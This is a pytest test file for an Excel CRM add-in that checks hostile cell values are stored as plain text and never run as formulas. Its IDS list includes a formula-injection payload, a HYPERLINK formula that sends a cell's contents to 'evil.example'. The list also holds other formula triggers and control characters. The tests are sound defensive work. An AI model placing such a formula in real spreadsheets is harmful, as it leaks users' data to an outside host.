"""Generated hostile sales tables through the button job (fake workbook with Excel's entry
rule, tests/fake_xlwings.py) and through the worksheet functions.

Each seed makes a small sales table whose ids and names are the texts Excel mangles when
they are written as input (formulas, signs, leading zeros, 19-digit numbers, dates,
booleans, percentages, control characters). Asserted: every text cell of the result
sheets is exactly the text (what Excel shows), figures are the sums of the generated
amounts, and a table with one bad cell gives the exact one-line message and leaves the
workbook as it was.
"""

from __future__ import annotations

import datetime as dt
import random
from collections import defaultdict

import pytest

from xl_crm import macros
from xl_crm.monthly import run
from xl_crm.ranges import cell_text
from xl_crm.udfs import CRM_ABC, CRM_RFM, CRM_STRATEGY

from .fake_xlwings import Book, Formula

IDS = ['=HYPERLINK("http://evil.example/?q="&A1,"open")', "=1+1", "+49 30 1234", "+A1",
       "-1", "-x", "@SUM(A1:A9)", "@", "00123", "0", "007.50", "1234567890123456789",
       "98765432109876543210", "3-4", "1/2", "12/31/2025", "2025-03-01", "4-Mar", "TRUE",
       "false", "1e5", "2E-3", "50%", "(12)", "$1,000", "1,234", "Müller", "张三", "O'Brien",
       'say "hi"', "a b", "#N/A text", "٣٤٥", "ID-🙂", "12:30"]
NAMES = IDS + ["Bel\x07l", "nul\x00", "esc\x1b[31m", "tab\there", "two\nlines", "del\x7f"]
HEADER = ["Customer", "Date", "Amount", "Name"]


def table(seed: int) -> tuple[list[list[object]], dict[str, str], dict[str, float]]:
    """Rows (header first), the name of every id, and every id's net sales."""
    rnd = random.Random(seed)
    ids = rnd.sample(IDS, rnd.randint(3, 12))
    names = {i: rnd.choice(NAMES) for i in ids}
    rows, sums = [HEADER], defaultdict(float)
    for _ in range(rnd.randint(len(ids), 30)):
        who = rnd.choice(ids)
        amount = round(rnd.uniform(-50, 500), 2) if rnd.random() < 0.9 else 1e11 + 0.5
        day = dt.datetime(2020, 1, 1) + dt.timedelta(days=rnd.randint(0, 2000))
        rows.append([who, day, amount, names[who]])
        sums[who] += amount
    rows.append([ids[0], dt.datetime(2025, 7, 1), 1.0, names[ids[0]]])  # the analysis date
    sums[ids[0]] += 1.0
    return rows, {i: names[i] for i in sums}, dict(sums)


def book_of(tmp_path, rows, name="hostile.xlsm") -> Book:
    book = Book(fullname=str(tmp_path / name))
    book.add_sheet("Notes", [["keep"]])
    book.add_sheet("Sales", rows)
    return book


def by_header(values):
    return [dict(zip(values[0], r)) for r in values[1:]]


@pytest.mark.parametrize("seed", range(12))
def test_button_job_writes_every_text_exactly(seed, tmp_path):
    rows, names, sums = table(seed)
    book = book_of(tmp_path, rows)
    outcome = run(book)
    customers = by_header(book.sheets["CRM Customers"].used_range.value)
    assert sorted(c["Customer"] for c in customers) == sorted(names)
    for c in customers:
        assert type(c["Customer"]) is str
        assert c["Name"] == cell_text(names[c["Customer"]])
        assert c["Value"] == pytest.approx(sums[c["Customer"]], abs=1e-6)
        assert type(c["RFM"]) is str and len(c["RFM"]) == 3
    assert len(customers) == len(outcome.analysis.customers)
    for sheet in book.sheets:
        for cell, v in sheet.cells.items():
            assert not isinstance(v, Formula), (sheet.name, cell, v)
            if sheet.name.startswith("CRM ") and isinstance(v, str):
                assert sheet.formats.get(cell) == "@", (sheet.name, cell, v)
    assert book.sheets["Sales"].cells == book_of(tmp_path, rows).sheets["Sales"].cells


BAD = [  # (column, bad value, message after "<header> (column X) row N: ")
    (2, "twelve", "'twelve' is not a number"),
    (2, "1e400", "'1e400' is not a finite number"),
    (2, True, "True is TRUE/FALSE, not a number"),
    (1, "1500-01-01", "1500-01-01 is before 1900-01-01, the earliest date accepted"),
    (1, dt.datetime(1899, 12, 31), "1899-12-31 is before 1900-01-01, the earliest date accepted"),
    (0, "x\x1by", "'x\\x1by' holds a control character (U+001B); ids must be plain text"),
    (0, "nul\x00", "'nul\\x00' holds a control character (U+0000); ids must be plain text"),
]


@pytest.mark.parametrize("seed", range(len(BAD) * 2))
def test_one_bad_cell_gives_one_line_and_changes_nothing(seed, tmp_path):
    rows, _, _ = table(seed)
    col, value, reason = BAD[seed % len(BAD)]
    at = random.Random(seed).randint(1, len(rows) - 1)
    book = book_of(tmp_path, rows)
    run(book)  # a first run's sheets must survive the failing second one
    book.sheets["Sales"].cells[(at + 1, col + 1)] = value
    before = book.snapshot()
    macros.monthly_report(book)
    letter = "ABCD"[col]
    assert [a[0] for a in book.app.alerts] == [
        f"{HEADER[col]} (column {letter}) row {at + 1}: {reason}"]
    assert book.snapshot() == before


@pytest.mark.parametrize("seed", range(8))
def test_worksheet_functions_keep_every_id_exact(seed):
    rows, names, sums = table(seed)
    customers = [[r[0]] for r in rows]
    dates = [[r[1]] for r in rows]
    amounts = [[r[2]] for r in rows]
    abc = CRM_ABC(customers, amounts)
    assert {r[0]: r[1] for r in abc[1:]} == pytest.approx(sums)
    rfm = CRM_RFM(customers, dates, amounts)
    assert sorted(r[0] for r in rfm[1:]) == sorted(names)
    labels = [[r[4]] for r in abc[1:]]
    assert CRM_STRATEGY(labels) == [[CRM_STRATEGY(t)] for (t,) in labels]
